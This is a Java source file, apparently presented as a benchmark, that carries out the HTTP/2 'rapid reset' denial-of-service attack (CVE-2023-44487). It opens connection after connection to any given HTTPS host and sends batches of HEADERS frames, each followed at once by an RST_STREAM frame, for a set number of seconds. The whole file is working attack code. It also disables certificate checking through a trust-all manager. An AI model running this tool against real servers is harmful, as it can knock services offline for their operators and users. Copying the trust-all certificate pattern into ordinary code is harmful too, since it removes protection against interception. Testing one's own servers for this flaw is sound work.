package dev.holdfast.bench;

import static java.nio.charset.StandardCharsets.ISO_8859_1;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.net.URI;
import java.nio.ByteBuffer;
import java.security.GeneralSecurityException;
import java.security.cert.X509Certificate;
import javax.net.ssl.SSLContext;
import javax.net.ssl.SSLParameters;
import javax.net.ssl.SSLSocket;
import javax.net.ssl.TrustManager;
import javax.net.ssl.X509TrustManager;

/**
 * Rapid reset (CVE-2023-44487): opens streams over HTTP/2 and resets each at once, on one connection
 * after the other, for some seconds. Says how many resets a connection was allowed on average.
 * A file of its own: {@code java Resets.java https://host:port 10}.
 */
public final class Resets {
  private static final int BATCH = 50;

  private Resets() {}

  public static void main(String... arguments) throws Exception {
    URI server = URI.create(arguments[0]);
    long end = System.nanoTime() + Long.parseLong(arguments[1]) * 1_000_000_000L;
    int connections = 0;
    int resets = 0;
    int refused = 0;
    while (System.nanoTime() < end) {
      try (SSLSocket socket = connected(server)) {
        connections++;
        resets += flood(socket, server.getAuthority(), end);
      } catch (IOException ended) {
        refused++;
      }
    }
    System.out.printf(
        "%d connections, %d of them could not be made; %d resets sent%n",
        connections + refused, refused, resets);
  }

  private static int flood(SSLSocket socket, String authority, long end) throws IOException {
    byte[] head = head(authority);
    socket.getOutputStream().write("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(ISO_8859_1));
    socket.getOutputStream().write(frame(4, 0, 0));
    Thread reader = new Thread(() -> drain(socket));
    reader.setDaemon(true);
    reader.start();
    int stream = 1;
    int resets = 0;
    try {
      while (System.nanoTime() < end && reader.isAlive() && stream < 200_000) {
        ByteArrayOutputStream batch = new ByteArrayOutputStream();
        for (int i = 0; i < BATCH; i++, stream += 2) {
          batch.write(frame(1, 5, stream, head));
          batch.write(frame(3, 0, stream, (byte) 0, (byte) 0, (byte) 0, (byte) 8));
        }
        socket.getOutputStream().write(batch.toByteArray());
        resets += BATCH;
      }
    } catch (IOException ended) {
      return resets;
    }
    return resets;
  }

  private static void drain(SSLSocket socket) {
    try {
      InputStream in = socket.getInputStream();
      byte[] dropped = new byte[8192];
      while (in.read(dropped) >= 0) {
        continue;
      }
    } catch (IOException closed) {
      return;
    }
  }

  /** GET, https, and literal path and authority (RFC 7541, 6.2.2). */
  private static byte[] head(String authority) {
    ByteArrayOutputStream head = new ByteArrayOutputStream();
    head.writeBytes(new byte[] {(byte) 0x82, (byte) 0x87, 0x04, 4});
    head.writeBytes("/one".getBytes(ISO_8859_1));
    head.writeBytes(new byte[] {0x01, (byte) authority.length()});
    head.writeBytes(authority.getBytes(ISO_8859_1));
    return head.toByteArray();
  }

  private static byte[] frame(int type, int flags, int stream, byte... payload) {
    return ByteBuffer.allocate(9 + payload.length)
        .put((byte) 0)
        .putShort((short) payload.length)
        .put((byte) type)
        .put((byte) flags)
        .putInt(stream)
        .put(payload)
        .array();
  }

  private static SSLSocket connected(URI server) throws IOException, GeneralSecurityException {
    SSLContext context = SSLContext.getInstance("TLS");
    context.init(null, new TrustManager[] {new Anybody()}, null);
    SSLSocket socket =
        (SSLSocket) context.getSocketFactory().createSocket(server.getHost(), server.getPort());
    SSLParameters parameters = socket.getSSLParameters();
    parameters.setApplicationProtocols(new String[] {"h2"});
    socket.setSSLParameters(parameters);
    socket.setSoTimeout(10_000);
    socket.startHandshake();
    return socket;
  }

  /** The server under test has whatever certificate it has. */
  private static final class Anybody implements X509TrustManager {
    @Override
    public void checkClientTrusted(X509Certificate[] chain, String type) {}

    @Override
    public void checkServerTrusted(X509Certificate[] chain, String type) {}

    @Override
    public X509Certificate[] getAcceptedIssuers() {
      return new X509Certificate[0];
    }
  }
}
